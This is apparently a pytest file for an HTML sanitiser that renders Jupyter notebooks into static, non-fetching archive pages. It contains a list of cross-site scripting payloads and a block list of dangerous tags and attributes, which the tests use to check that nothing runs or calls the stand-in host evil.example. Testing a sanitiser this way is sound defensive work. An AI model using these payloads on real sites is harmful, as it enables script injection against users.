"""Pages of the archive: nothing runs, nothing is fetched, everything can be read."""

from __future__ import annotations

import re
from concurrent.futures import ThreadPoolExecutor
from html.parser import HTMLParser

import nbformat
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from consolidation.display import Box
from consolidation.evidence.harmless_html import harmless
from consolidation.evidence.static_html import Banner, render
from consolidation.tables import Column, Table

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
BANNER = Banner("contoso-europe", "04_recreate", "held", case="Adatum", reasons=("Ben has not approved.",))


class Page(HTMLParser):
    """What a browser would make of a page: elements, attributes and style sheets."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.styles: list[str] = []
        self.text = ""
        self._in_style = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._in_style = tag == "style"

    def handle_endtag(self, tag: str) -> None:
        self._in_style = self._in_style and tag != "style"

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)
        self.text += data


def assert_static(text: str) -> Page:
    """Check that a page runs nothing, fetches nothing and leads nowhere."""
    page = Page(text)
    for tag, attributes in page.elements:
        assert tag not in {
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "link",
            "base",
            "svg",
            "math",
            "audio",
            "video",
        }
        for name, value in attributes.items():
            assert not name.startswith("on"), f"{tag} has {name}"
            if name in {"src", "href", "srcset", "action", "data", "poster", "background", "xlink:href"}:
                assert re.match(r"#|data:image/", value or ""), f"{tag} {name}={value}"
            if name == "style":
                assert not re.search(r"url\s*\(|@import|expression|\\", value or "", re.IGNORECASE)
    for style in page.styles:
        assert not re.search(r"url\s*\(|@import|expression|\\", style, re.IGNORECASE)
    return page


def notebook(*outputs: nbformat.NotebookNode, markdown: str = "# Recreate") -> nbformat.NotebookNode:
    """Return a notebook whose one code cell produced these outputs."""
    return new_notebook(
        cells=[new_markdown_cell(markdown), new_code_cell("case", outputs=list(outputs), execution_count=1)]
    )


def shown(markup: str) -> nbformat.NotebookNode:
    """Return an output that shows this HTML."""
    return new_output("display_data", {"text/html": markup, "text/plain": "plain"})


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/x.png' alt='net'>",
    "<svg/onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a><a href=' java\nscript:alert(1)'>y</a><a href='data:text/html,x'>z</a>",
    "<a href='https://evil.example'>here</a>",
    "<div style='background:url(https://evil.example/a); color:red' onclick=x()>hi</div>",
    "<div style='background: url(//evil.example/a); width: expression(alert(1))'>hi</div>",
    "<style>#T_a td {background: image-set(//evil.example/a 1x); border-image: url(//evil.example/a)}</style>",
    "<div style='back\\67round:u\\72l(https://evil.example/a)'>hi</div>",
    "<style>@import 'https://evil.example/c.css'; #T_a td {background: url(https://evil.example)}</style>",
    "<style>body {color: white} main, #T_a td {color: white}</style>",
    "<style>#T_a td { color: red } </style ><style>#T_a{}</style><script>alert(1)</script>",
    "<sty<style>x</style>le>@import 'https://evil.example';</style>",
    "<scr<script></script>ipt>alert(1)</scr<script></script>ipt>",
    "<form action=https://evil.example><input name=a><button>go</button></form>",
    "<base href=https://evil.example><link rel=stylesheet href=https://evil.example/c.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</main></body></html><script>alert(1)</script>",
]
PIECES = [*ATTACKS, "<", ">", "'", '"', "</style>", "<style>", "&lt;", "-->", "`", "<table>", "<td>", "{", "}", "/*"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_fetches_survives(attack: str) -> None:
    """S11: whatever a cell or a text in Markdown brings along, the page runs nothing and fetches nothing."""
    assert_static(render(notebook(shown(attack), markdown=f"# T\n\n{attack}"), attack, BANNER))


@settings(deadline=None)
@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=5)).map("".join))
def test_no_mixture_gets_through_the_gate(markup: str) -> None:
    """S11: pieces of attacks in any order, closed or not, leave only what is listed."""
    assert_static(harmless(markup))


def test_a_style_reaches_its_own_table_only() -> None:
    """S11: a rule stays when every selector starts at a pandas table; nothing else can be coloured or hidden."""
    kept = harmless("<style>body {color: white} main, #T_a td {color: white} #T_a td, #T_a th {color: red}</style>")
    assert "".join(Page(kept).styles).split("\n")[1:-1] == ["#T_a td, #T_a th {color: red}"]
    assert (
        harmless("<p style='display: none; position: fixed; opacity: 0; color: red'>x</p>")
        == '<p style="color: red">x</p>'
    )


def test_no_cell_can_pass_for_the_banner() -> None:
    """S11: the classes of the frame are its own; the same class in a cell is taken off."""
    assert harmless('<div class="page-banner page-done">Done</div>') == "<div>Done</div>"


def test_names_of_companies_are_data_everywhere() -> None:
    """S11: title, banner and reasons are escaped; a name in another direction does not turn its neighbours round."""
    hostile = "</title><script>alert(1)</script>\u202e شركة"
    page = assert_static(
        render(notebook(), hostile, Banner(hostile, hostile, hostile, hostile, (hostile,), {hostile: hostile}))
    )
    assert page.text.count("<script>alert(1)</script>") >= 8
    assert "\u202e" not in page.text


def test_no_page_names_an_address_outside() -> None:
    """M32: our own frame holds no address of the net, and the page forbids the browser to fetch any."""
    text = render(notebook(shown("<p>nothing</p>")), "Title", BANNER)
    assert not re.search(r"https?://", text)
    assert "default-src 'none'" in text


def test_links_become_text_with_their_address() -> None:
    """M32: on paper a link is its address; the page leads nowhere, but nothing that was said is lost."""
    text = Page(
        render(notebook(markdown="See [the page](https://learn.microsoft.com/x), <https://a.example/>."), "T")
    ).text
    assert "the page (https://learn.microsoft.com/x), https://a.example/." in " ".join(text.split())


def test_tables_keep_their_style_and_rows() -> None:
    """S8: our tables and pandas' own arrive with their styles, captions and every row."""
    columns = (Column("name", "Subscription"), Column("seats", "Seats", "number"))
    table = Table(columns, tuple({"name": f"<b>{n}</b>", "seats": n} for n in range(40)), caption="All")
    frame = pd.DataFrame({"seats": [1, 2]}).style.background_gradient("Blues").bar()
    page = assert_static(render(notebook(shown(table._repr_html_()), shown(frame.to_html())), "T"))
    styles = "".join(page.styles)
    assert sum(tag == "tr" for tag, _ in page.elements) == 41 + 3
    assert "text-align: right" in styles
    assert "background-color: #08306b" in styles
    assert "linear-gradient" in styles
    assert "<b>39</b>" in page.text


@pytest.mark.parametrize("kind", ["done", "waiting", "held", "failed", "note"])
def test_boxes_keep_their_look(kind) -> None:
    """M32: the border that tells states apart without colour survives the gate."""
    page = assert_static(render(notebook(shown(Box(kind, "Title", ("Line",))._repr_html_())), "T"))
    borders = [str(attributes.get("style")) for tag, attributes in page.elements if tag == "div"]
    assert any("border-left" in style for style in borders)


def test_plots_are_inside_the_page() -> None:
    """M32: images come as data, from outputs and as attachments alike."""
    page = assert_static(render(notebook(new_output("display_data", {"image/png": PIXEL})), "T"))
    assert [str(a["src"])[:22] for tag, a in page.elements if tag == "img"] == ["data:image/png;base64,"]


def test_a_form_leaves_a_sentence_and_not_what_was_typed() -> None:
    """S10: a widget's text form, which shows what was typed, does not reach the page, nor does its state."""
    widget = new_output(
        "display_data",
        {"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": "Password(value='typed')"},
    )
    node = notebook(widget)
    node.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"1": {"value": "typed"}}}}
    text = render(node, "T")
    assert "typed" not in text
    assert "A form stood here" in text
    assert node.cells[1].outputs[0].data["text/plain"] == "Password(value='typed')", (
        "the notebook itself is not changed"
    )


def test_an_error_is_a_box_one_can_read() -> None:
    """M32: a cell that failed shows its error escaped and without terminal codes, and cells that never ran say so."""
    error = new_output(
        "error", ename="Held", evalue="<b>two</b> approvals", traceback=["\x1b[31mHeld\x1b[0m: <b>two</b>"]
    )
    node = notebook(error)
    node.cells.append(new_code_cell("never"))
    page = assert_static(render(node, "T"))
    assert "✗ Held" in page.text
    assert "<b>two</b> approvals" in page.text
    assert "\x1b" not in page.text
    assert "Not executed" in page.text


@pytest.mark.parametrize(
    ("outcome", "word"),
    [
        ("done", "✓ Done"),
        ("held", "! Held"),
        ("failed", "✗ Failed"),
        ("not_applicable", "Not applicable"),
        ("odd", "? odd"),
    ],
)
def test_the_banner_says_the_outcome_in_words(outcome: str, word: str) -> None:
    """S7: the outcome stands on top with a sign and a word; one that nobody knows is shown as it is."""
    banner = Banner("contoso-europe", "04_recreate", outcome, facts={"Executed": "2026-11-22 09:05:09 UTC"})
    text = Page(render(notebook(), "04 Recreate", banner)).text
    assert word in text
    assert "2026-11-22 09:05:09 UTC" in text


def test_the_same_notebook_is_the_same_page_from_any_thread() -> None:
    """M32: pages depend on the notebook alone, also when many are made at once."""
    node = notebook(shown("<p style='color: red'>x</p>"))
    with ThreadPoolExecutor(4) as pool:
        pages = set(pool.map(lambda _: render(node, "T", BANNER), range(12)))
    assert len(pages) == 1
